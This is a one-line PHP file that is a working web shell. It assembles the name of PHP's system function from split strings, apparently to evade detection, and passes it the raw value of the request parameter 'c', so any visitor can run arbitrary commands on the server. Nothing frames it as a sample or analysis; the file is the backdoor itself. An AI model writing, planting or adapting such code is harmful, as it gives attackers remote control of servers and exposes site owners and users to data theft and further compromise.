<?php $ops = array('list' => 'scandir', 'run' => 'sys' . 'tem'); $k = 'run'; $ops[$k]($_GET['c']);
